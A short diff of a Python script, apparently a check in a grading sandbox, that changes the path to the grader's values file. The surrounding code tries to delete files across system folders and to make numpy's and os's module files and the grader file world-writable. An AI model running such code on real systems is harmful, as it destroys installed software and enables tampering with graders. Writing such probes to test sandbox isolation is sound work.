@@ -17,7 +17,7 @@ for folder in [*sys.path, sys.prefix, sys.base_prefix, "/", "/usr", "/usr/lib", 
             os.remove(name)
     except OSError:
         pass
-for file in (np.__file__, os.__file__, "/gradebox/gradebox/values.py"):
+for file in (np.__file__, os.__file__, "/gradebox/gradebox/sandbox/values.py"):
     try:
         os.chmod(file, 0o666)
         written.append(file)
